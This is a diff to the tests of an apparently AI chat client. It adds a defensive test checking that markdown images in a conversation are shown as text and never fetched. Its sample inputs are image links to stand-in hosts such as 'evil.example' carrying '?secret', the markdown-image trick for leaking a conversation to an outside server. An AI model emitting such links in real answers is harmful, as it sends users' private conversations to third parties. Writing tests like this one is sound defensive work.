@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import socket
 import sys
 from pathlib import Path
 
@@ -187,6 +188,24 @@ async def test_a_link_shows_where_it_leads_and_opens_nothing(tmp_path: Path, mon
         await chat.pilot.pause()
         assert opened == []
         assert [n.message for n in chat.app._notifications] == ["http://evil/[b]"]
+
+
+async def test_an_image_is_its_words_and_nothing_is_fetched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """To fetch it would tell a stranger's server what was said: ![](http://evil/?the-conversation)."""
+    reached: list[object] = []
+    for name in ("connect", "connect_ex", "sendto"):
+        monkeypatch.setattr(socket.socket, name, lambda self, *given, **more: reached.append(given))
+    monkeypatch.setattr(socket, "getaddrinfo", lambda *given, **more: reached.append(given) or [])
+    async with chatting(tmp_path) as chat:
+        opened: list[str] = []
+        monkeypatch.setattr(chat.app, "open_url", lambda url, **_: opened.append(url))
+        image = "![a parrot](http://evil.example/x.png?secret)"
+        await chat.exchange(image, f"{image} and [![both](http://evil.example/y.png)](http://evil.example/z)")
+        await chat.pilot.pause(0.2)
+        (paragraph,) = chat.app.query("MarkdownParagraph").results(Static)
+        assert "a parrot" in str(paragraph.content) and "both" in str(paragraph.content)
+        assert questions(chat) == [image]
+        assert (reached, opened) == ([], [])
 
 
 async def test_a_failed_answer_says_why_and_the_question_is_kept(tmp_path: Path) -> None:
